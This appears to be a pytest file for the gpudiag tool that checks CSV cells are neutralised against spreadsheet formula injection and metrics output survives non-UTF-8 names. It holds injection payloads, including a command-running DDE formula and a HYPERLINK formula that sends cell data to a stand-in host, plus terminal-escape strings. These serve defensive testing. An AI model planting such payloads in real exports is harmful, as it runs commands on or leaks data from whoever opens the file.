"""Outside text in every output that is not a terminal (issue 33): a byte that is not UTF-8 takes no
output down, data leaves one metric family out of a scrape but never the scrape, and no CSV cell of
outside text is a formula to a spreadsheet.

psutil hands a command line or a process name holding bytes that are not UTF-8 over as lone
surrogates (``\\udcff``); every output writes one as that escape (JSON as its own escape of the same
character). The example ``hostile-strings`` carries such names, users and environment values, and
cells a spreadsheet would run; the last test starts a real process whose name and argv are not UTF-8
and runs the exporter and ``memory --textfile`` as real processes against it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from gpudiag.exitcodes import ExitCode
from gpudiag.export import metrics_native
from gpudiag.export.exporter import Exporter, Server
from gpudiag.model import Reading
from gpudiag.query import parse
from gpudiag.render import csv_query
from gpudiag.render.printable import FORMULA_STARTS, csv_field, printable, spreadsheet_text
from gpudiag.replay import fixtures
from gpudiag.sources import collect, open_source
from tests.conftest import Cli
from tests.test_export_exporter import QUICK_SHUTDOWN, free_port

HOSTILE = "hostile-strings"
ERRORS = "gpudiag_metric_family_errors_total"
OPENMETRICS = "application/openmetrics-text; version=1.0.0"


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would start a formula with and that are neither
    numbers nor pmon's and dmon's "-" for a missing value."""
    found = []
    for row in csv.reader(io.StringIO(text), skipinitialspace=True):
        for cell in row:
            if cell.lstrip(" ")[:1] in FORMULA_STARTS and not _number(cell) and cell != "-":
                found.append(cell)
    return found


def _number(cell: str) -> bool:
    try:
        float(cell.split(" ")[0])  # "-5 W": a figure with its unit
    except ValueError:
        return False
    return True


# --- CSV: OWASP's rule on cells of outside text ------------------------------------------------

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # an importer that trims blanks would still see a formula
    '=HYPERLINK("http://x.example/?"&A1,"click")',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_of_outside_text_that_starts_a_formula_is_neutralised(text: str) -> None:
    cell = csv_field(text, text=True)
    assert "\n" not in cell and "\r" not in cell and "\t" not in cell
    (read,) = next(csv.reader(io.StringIO(cell), skipinitialspace=True))
    assert read == "'" + printable(text)


def test_other_text_and_gpudiags_own_figures_stay_as_they_are() -> None:
    assert csv_field("NVIDIA H100 80GB HBM3", text=True) == "NVIDIA H100 80GB HBM3"
    assert csv_field("x=1", text=True) == "x=1"
    assert [csv_field(v) for v in ("-5", "-5 W", "+1")] == ["-5", "-5 W", "+1"]  # numbers gpudiag wrote


@settings(max_examples=40)
@given(st.lists(st.text(), min_size=1, max_size=6))
def test_no_cell_of_outside_text_reads_back_as_a_formula(values: list[str]) -> None:
    assume(values != [""])  # a record of one empty field is a blank line in any CSV
    line = ", ".join(csv_field(v, text=True) for v in values)
    assert "\n" not in line
    read = next(csv.reader(io.StringIO(line), skipinitialspace=True))
    assert read == [spreadsheet_text(v) for v in values]
    assert not [cell for cell in read if cell.lstrip(" ")[:1] in FORMULA_STARTS]


def test_query_gpu_neutralises_outside_text_and_keeps_numbers(cli: Cli) -> None:
    fields = "index,name,serial,vbios_version,memory.used,temperature.gpu"
    code, out, err = cli.replay(HOSTILE, "list", "--query", fields, "--format", "csv,nounits")
    assert code == ExitCode.GPU_LOST, err  # GPU 2 of the example is lost
    rows = list(csv.reader(io.StringIO(out), skipinitialspace=True))
    assert rows[2][2] == "'+cmd|' /C calc'!A0"
    assert rows[2][3] == "'\\t@SUM(1+1)*cmd|' /C calc'!A0"  # a leading tab: escaped, and neutralised
    assert rows[2][4:] == ["13056", "35"]
    assert formula_cells(out) == []
    # A negative reading is a number gpudiag writes, not text from outside: it stays a number.
    machine = collect("h100-driver580-busy")
    cold = msgspec.structs.replace(machine.gpus[0], temperature_c=Reading.of(-5))
    columns = parse.parse_query("temperature.gpu,name")
    text = csv_query.render_csv(machine, (cold,), columns, parse.CsvFormat(header=False))
    assert text == "-5, NVIDIA H100 80GB HBM3\n"


def _hostile_with_gpu_name(tmp_path: Path, name: str) -> str:
    """The hostile example with GPU 1 named ``name``."""
    data = json.loads(Path(fixtures.EXAMPLES_DIR, f"{HOSTILE}.json").read_text())
    data["gpus"][1]["name"] = name
    replay = tmp_path / "gpu-name.json"
    replay.write_text(json.dumps(data))
    return str(replay)


def test_query_name_neutralises_a_gpu_name_that_is_a_formula(cli: Cli, tmp_path: Path) -> None:
    replay = _hostile_with_gpu_name(tmp_path, '=HYPERLINK("http://x.example/","GPU")')
    _, out, _ = cli.replay(replay, "list", "--query", "index,name", "--format", "csv,noheader")
    assert out.splitlines()[1] == '1, "\'=HYPERLINK(""http://x.example/"",""GPU"")"'
    assert formula_cells(out) == []


def test_query_compute_apps_neutralises_process_names(cli: Cli) -> None:
    _, out, _ = cli.replay(HOSTILE, "list", "--query-compute-apps", "pid,process_name,used_memory", "--format", "csv")
    rows = list(csv.reader(io.StringIO(out), skipinitialspace=True))
    assert ["5151", '\'=HYPERLINK("http://x.example/"&A1,"x")', "12288 MiB"] in rows
    assert formula_cells(out) == []


def test_pmon_csv_quotes_as_rfc_4180_says_and_neutralises_process_names(cli: Cli) -> None:
    """The old pmon CSV wrote ``=HYPERLINK("htt`` bare: a formula, and a field holding a quote unquoted."""
    _, out, _ = cli.replay(HOSTILE, "pmon", "--count", "1", "--format", "csv")
    lines = out.splitlines()
    header = next(csv.reader([lines[0]], skipinitialspace=True))
    data = [line for line in lines if not line.startswith("#")]
    assert data and all(len(next(csv.reader([line], skipinitialspace=True))) == len(header) for line in data)
    (hostile,) = [line for line in data if " 5151, " in line]
    assert hostile.endswith(', "\'=HYPERLINK(""htt"')
    assert next(csv.reader([hostile], skipinitialspace=True))[-1] == "'=HYPERLINK(\"htt"
    assert formula_cells(out) == []


def test_bench_csv_neutralises_an_error_message_and_nothing_else() -> None:
    from gpudiag.bench import report
    from gpudiag.render import bench_view
    from tests.test_bench_report import V100_HEALTHY, simulate

    rows, _, _ = simulate("v100-pcie-gen3-x16", "h2d_pinned", V100_HEALTHY)
    hostile = [report.Row(**{**vars(row), "error": '=HYPERLINK("http://x","y")\nmore'}) for row in rows]
    plain = list(csv.DictReader(io.StringIO(bench_view.to_csv(rows))))
    read = list(csv.DictReader(io.StringIO(bench_view.to_csv(hostile))))
    assert [r["error"] for r in read] == ['\'=HYPERLINK("http://x","y")\\nmore'] * len(rows)
    assert [{**r, "error": ""} for r in read] == plain


# --- metrics: a byte that is not UTF-8 ---------------------------------------------------------


@pytest.mark.parametrize(
    ("compat", "escaped"),
    [
        ("native", r'process="python3\\udcff\\x1b[8m",user="root\\u202etoor"'),
        # DCGM's labels carry GPU names, not process names. pynvml itself refuses a GPU name that is not
        # UTF-8 (UnicodeDecodeError in its wrapper, as over a real driver): GPU 1's name reads as unknown.
        ("dcgm", r'pci_bus_id="00000000:00:07.0",device="nvidia1",modelName=""'),
    ],
)
def test_exporter_once_writes_a_byte_that_is_not_utf8_as_its_escape(
    cli: Cli, compat: str, escaped: str, tmp_path: Path
) -> None:
    """The old exporter exited 70 (UnicodeEncodeError) on such a name."""
    replay = _hostile_with_gpu_name(tmp_path, "NVIDIA H100 \udcff")
    code, out, err = cli.replay(replay, "exporter", "--once", "--compat", compat)
    assert code == ExitCode.OK, err
    assert escaped in out and out.replace("\n", "").isprintable()
    assert f"{ERRORS} 0.0\n" in out


def test_memory_textfile_writes_a_byte_that_is_not_utf8_as_its_escape(cli: Cli, tmp_path: Path) -> None:
    """The old `memory --textfile` exited 70 (UnicodeEncodeError) and wrote no file."""
    code, _, err = cli.replay(HOSTILE, "memory", "--textfile", str(tmp_path))
    assert code == ExitCode.GPU_LOST, err
    text = (tmp_path / "gpudiag_memory.prom").read_bytes().decode("utf-8")
    assert r'process="python3\\udcff\\x1b[8m"' in text and r'user="\\x9b31mcar\\udcffol"' in text
    assert text.replace("\n", "").isprintable()


@pytest.fixture
def hostile_server() -> Iterator[str]:
    with open_source(HOSTILE) as source:
        server = Server(Exporter(source), "127.0.0.1", 0, poll_interval=QUICK_SHUTDOWN)
        try:
            yield f"http://127.0.0.1:{server.port}"
        finally:
            server.shutdown()


def _get(url: str, accept: str = "text/plain") -> tuple[int, str]:
    request = urllib.request.Request(url, headers={"Accept": accept})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.read().decode("utf-8")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode("utf-8", "replace")


def test_a_scrape_of_such_a_name_answers_200_in_both_formats(hostile_server: str) -> None:
    """The old exporter answered HTTP 500 to every scrape (and /healthz 200)."""
    for accept in ("text/plain", OPENMETRICS):
        status, body = _get(f"{hostile_server}/metrics", accept)
        assert status == 200, body
        assert r'process="python3\\udcff\\x1b[8m"' in body and body.replace("\n", "").isprintable()


# --- metrics: a part whose data cannot be written is left out, counted and said ---------------


def _boom(*args: object, **kwargs: object) -> None:
    raise RuntimeError("data no family can hold")


def test_a_part_that_fails_leaves_the_others_in_the_scrape(monkeypatch: pytest.MonkeyPatch) -> None:
    """The old exporter answered HTTP 500 to every scrape when one part of it raised."""
    monkeypatch.setattr(metrics_native, "_process_families", _boom)
    said: list[str] = []
    with open_source(HOSTILE) as source:
        server = Server(Exporter(source, log=said.append), "127.0.0.1", 0, poll_interval=QUICK_SHUTDOWN)
        try:
            base = f"http://127.0.0.1:{server.port}"
            for scrape in (1, 2):
                status, body = _get(f"{base}/metrics")
                assert status == 200, body
                assert "gpudiag_gpu_memory_used_bytes{" in body and "gpudiag_check_status{" in body
                assert "gpudiag_process_gpu_memory_bytes" not in body
                assert f"{ERRORS} {float(scrape)}\n" in body
            assert _get(f"{base}/metrics", OPENMETRICS)[0] == 200
        finally:
            server.shutdown()
    assert [line for line in said if "metrics" in line] == [
        "gpudiag: metrics gpudiag_process_* (per process) left out: RuntimeError: data no family can hold"
    ]


def test_a_node_that_cannot_be_read_into_a_sample_is_a_scrape_that_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    said: list[str] = []
    with open_source(HOSTILE) as source:
        exporter = Exporter(source, log=said.append)
        monkeypatch.setattr(exporter, "sample", _boom)
        text = exporter.render_text().decode()
    assert text.endswith(f"{ERRORS} 1.0\n") and text.count("# TYPE") == 1
    assert said == ["gpudiag: metrics of the node (no sample) left out: RuntimeError: data no family can hold"]


def test_memory_prometheus_answers_200_to_such_a_name_and_leaves_a_failing_part_out(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The old `memory --prometheus` answered HTTP 500 to every scrape of such a name."""
    from gpudiag.export.memory_metrics import MemoryMetrics
    from gpudiag.memory.build import build

    metrics = MemoryMetrics.serve(0, "127.0.0.1")
    try:
        metrics.update(build(collect(HOSTILE), {}), {0: 1})
        status, body = _get(f"http://127.0.0.1:{metrics.port}/metrics")
        assert status == 200, body
        assert r'process="python3\\udcff\\x1b[8m"' in body and f"{ERRORS} 0.0" in body
        monkeypatch.setattr(metrics_native, "_gpu_families", _boom)
        status, body = _get(f"http://127.0.0.1:{metrics.port}/metrics")
    finally:
        metrics.shutdown()
    assert status == 200 and "gpudiag_process_gpu_memory_bytes{" in body and f"{ERRORS} 1.0" in body
    assert "gpudiag_gpu_memory_used_bytes" not in body


# --- a real process whose name and command line are not UTF-8 ----------------------------------

# Swaps the replay's recorded owners for the live host layer (psutil), in the processes it starts.
LIVE_HOST = """
from gpudiag.probe.host import PsutilHost
from gpudiag.replay import fake_host

fake_host.RecordedHost = lambda machine: PsutilHost(in_container=False)
"""
UNDECODABLE = b"\xfe\xff-arg"


@pytest.fixture
def undecodable_process(tmp_path: Path) -> Iterator[subprocess.Popen[bytes]]:
    """A real process started through a link whose name is not UTF-8 (so is its name in /proc, which
    psutil reads as ``py\\udcffthon``), with an argument that is not UTF-8 either."""
    link = tmp_path / os.fsdecode(b"py\xffthon")
    link.symlink_to(sys.executable)
    argv = [os.fsencode(link), b"-c", b"import time; time.sleep(60)", UNDECODABLE]
    process = subprocess.Popen(argv)
    try:
        deadline = time.monotonic() + 10
        while UNDECODABLE not in Path(f"/proc/{process.pid}/cmdline").read_bytes():
            assert time.monotonic() < deadline, "the process did not start"
            time.sleep(0.01)
        yield process
    finally:
        process.kill()
        process.wait()


def _live_replay(tmp_path: Path, pid: int) -> tuple[Path, dict[str, str]]:
    """The replayed v100x4 machine with its process's PID replaced by the real one, and the
    environment that makes gpudiag resolve PIDs through psutil."""
    replay = tmp_path / "live.json"
    replay.write_text(Path(fixtures.EXAMPLES_DIR, "v100x4-tutorial.json").read_text().replace("31337", str(pid)))
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(LIVE_HOST)
    return replay, {**os.environ, "PYTHONPATH": os.pathsep.join([str(site), os.getcwd()])}


def _served(process: subprocess.Popen[str], pattern: str) -> str:
    """The base URL a serving gpudiag process names on stderr."""
    assert process.stderr is not None
    lines = []
    while len(lines) < 20:
        lines.append(process.stderr.readline())
        if found := re.search(pattern, lines[-1]):
            return found.group(1)
    raise AssertionError(lines)


@pytest.mark.slow
def test_a_live_process_whose_name_is_not_utf8_takes_no_output_down(
    undecodable_process: subprocess.Popen[bytes], tmp_path: Path
) -> None:
    replay, env = _live_replay(tmp_path, undecodable_process.pid)
    gpudiag = [sys.executable, "-m", "gpudiag", "--replay", str(replay)]
    label = r'process="py\\udcffthon"'
    once = subprocess.run([*gpudiag, "exporter", "--once", "--proc-root", "/proc"], capture_output=True, env=env)
    assert once.returncode == 0 and once.stderr == b"", once.stderr
    assert label in once.stdout.decode("utf-8") and f'pid="{undecodable_process.pid}"' in once.stdout.decode()
    textfile = subprocess.run([*gpudiag, "memory", "--textfile", str(tmp_path)], capture_output=True, env=env)
    assert textfile.returncode == 0, textfile.stderr
    assert label in (tmp_path / "gpudiag_memory.prom").read_bytes().decode("utf-8")
    command = [*gpudiag, "exporter", "--port", "0", "--no-kubelet", "--proc-root", "/proc"]
    for args, pattern in (
        (command, r"serving (http://127\.0\.0\.1:\d+)/metrics"),
        (
            [*gpudiag, "memory", "--watch", "--json", "--interval", "0.5", "--prometheus", str(free_port())],
            r"on (http://\S+)/metrics",
        ),
    ):
        server = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env=env)
        try:
            base = _served(server, pattern)
            for accept in ("text/plain", OPENMETRICS):
                status, body = _get(f"{base}/metrics", accept)
                if "memory" in args and label not in body:  # the watch's first sample may still be on its way
                    time.sleep(1)
                    status, body = _get(f"{base}/metrics", accept)
                assert status == 200 and label in body, (args, accept, body[-2000:])
            server.send_signal(signal.SIGTERM)
            _, err = server.communicate(timeout=20)
        finally:
            if server.poll() is None:
                server.kill()
                server.wait()
        assert server.returncode == 128 + signal.SIGTERM and "Traceback" not in err, err
